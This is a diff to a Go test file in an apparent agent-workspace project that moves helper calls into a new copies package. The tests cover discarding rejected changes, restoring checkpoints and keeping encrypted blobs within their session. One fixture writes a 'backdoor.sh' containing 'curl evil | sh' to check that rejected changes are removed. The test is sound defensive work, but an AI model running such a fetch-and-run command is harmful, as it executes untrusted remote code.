@@ -11,6 +11,7 @@ import (
 
 	"github.com/stretchr/testify/require"
 
+	"github.com/paddock-dev/paddock/internal/copies"
 	"github.com/paddock-dev/paddock/internal/durable"
 	"github.com/paddock-dev/paddock/internal/provider"
 	"github.com/paddock-dev/paddock/internal/provider/replay"
@@ -48,7 +49,7 @@ func atk3Setup(t *testing.T) *atk3 {
 	// Replay scripts are the durable session's test scripts.
 	reg := provider.NewRegistry()
 	reg.Register("replay", replay.Dir(filepath.Join("..", "durable")))
-	acts := &durable.Activities{Store: st, Providers: reg, Tools: tool.Builtin(), Now: time.Now, Copies: &durable.Copies{WorkspaceDir: t.TempDir()}, ContentKey: key}
+	acts := &durable.Activities{Store: st, Providers: reg, Tools: tool.Builtin(), Now: time.Now, Copies: &copies.Set{WorkspaceDir: t.TempDir()}, ContentKey: key}
 	return &atk3{st: st, acts: acts, repo: repo}
 }
 
@@ -81,16 +82,16 @@ func TestRejectedChangesComeBack(t *testing.T) {
 	e := atk3Setup(t)
 	s := e.session(t, "s-reject", "default")
 	require.NoError(t, os.WriteFile(filepath.Join(s.Workdir, "backdoor.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755))
-	durable.RecordStep(ctx, e.st, e.acts.ContentKey, s, "call-1", "")
+	copies.RecordStep(ctx, e.st, e.acts.ContentKey, s, "call-1", "")
 	cps, err := e.st.Steps(ctx, s.ID)
 	require.NoError(t, err)
 	require.Len(t, cps, 1)
 
-	// What Service.Reject does: durable.Copies.Discard, Deliver(base, base), and
+	// What Service.Reject does: copies.Set.Discard, Deliver(base, base), and
 	// the copy's state recorded.
 	require.NoError(t, e.acts.Copies.Discard(ctx, s))
 	require.NoError(t, e.st.Deliver(ctx, s.ID, s.BaseCommit, s.BaseCommit, session.DeliveryRejected, session.Sender{Kind: session.SenderOperator, ID: "root"}, "changes discarded"))
-	durable.RecordStep(ctx, e.st, e.acts.ContentKey, s, "reject", "")
+	copies.RecordStep(ctx, e.st, e.acts.ContentKey, s, "reject", "")
 	require.NoFileExists(t, filepath.Join(s.Workdir, "backdoor.sh"))
 
 	// The node is lost; a fresh one runs the next call.
@@ -110,7 +111,7 @@ func TestCheckpointAfterAcceptRestores(t *testing.T) {
 	e := atk3Setup(t)
 	s := e.session(t, "s-accept", "default")
 	require.NoError(t, os.WriteFile(filepath.Join(s.Workdir, "a.txt"), []byte("accepted\n"), 0o644))
-	durable.RecordStep(ctx, e.st, e.acts.ContentKey, s, "call-1", "")
+	copies.RecordStep(ctx, e.st, e.acts.ContentKey, s, "call-1", "")
 	d, err := workspace.Compute(ctx, s.Workdir, s.BaseCommit)
 	require.NoError(t, err)
 	next, err := workspace.Snapshot(ctx, s.Workdir, s.BaseCommit, d.Tree, "accepted")
@@ -120,9 +121,9 @@ func TestCheckpointAfterAcceptRestores(t *testing.T) {
 	s, err = e.st.GetSession(ctx, s.ID)
 	require.NoError(t, err)
 	// What Service.Accept does next: the new base recorded, with its bundle.
-	durable.RecordStep(ctx, e.st, e.acts.ContentKey, s, "accept", prev)
+	copies.RecordStep(ctx, e.st, e.acts.ContentKey, s, "accept", prev)
 	require.NoError(t, os.WriteFile(filepath.Join(s.Workdir, "b.txt"), []byte("after\n"), 0o644))
-	durable.RecordStep(ctx, e.st, e.acts.ContentKey, s, "call-2", "")
+	copies.RecordStep(ctx, e.st, e.acts.ContentKey, s, "call-2", "")
 
 	require.NoError(t, os.RemoveAll(s.Workdir))
 	require.NoError(t, e.acts.EnsureCopy(ctx, &s, spec.Agent{}))
@@ -142,8 +143,8 @@ func TestBlobsStayInTheirSession(t *testing.T) {
 	b := e.session(t, "s-b", "beta")
 	require.NoError(t, os.WriteFile(filepath.Join(a.Workdir, "secret.txt"), []byte("alpha's secret\n"), 0o644))
 	require.NoError(t, os.WriteFile(filepath.Join(b.Workdir, "secret.txt"), []byte("beta's own\n"), 0o644))
-	durable.RecordStep(ctx, e.st, e.acts.ContentKey, a, "c1", "")
-	durable.RecordStep(ctx, e.st, e.acts.ContentKey, b, "c1", "")
+	copies.RecordStep(ctx, e.st, e.acts.ContentKey, a, "c1", "")
+	copies.RecordStep(ctx, e.st, e.acts.ContentKey, b, "c1", "")
 	require.NoError(t, os.RemoveAll(b.Workdir))
 	require.NoError(t, e.acts.EnsureCopy(ctx, &b, spec.Agent{}))
 	got, err := os.ReadFile(filepath.Join(b.Workdir, "secret.txt"))
@@ -154,6 +155,6 @@ func TestBlobsStayInTheirSession(t *testing.T) {
 	require.NoError(t, err)
 	sealed, err := e.st.Blob(ctx, ca[0].Files[0].Blob)
 	require.NoError(t, err)
-	_, err = e.acts.ContentKey.Decrypt(sealed, durable.BlobAD("0000000000000000000000000000000000000000000000000000000000000000"))
+	_, err = e.acts.ContentKey.Decrypt(sealed, copies.BlobAD("0000000000000000000000000000000000000000000000000000000000000000"))
 	require.Error(t, err)
 }
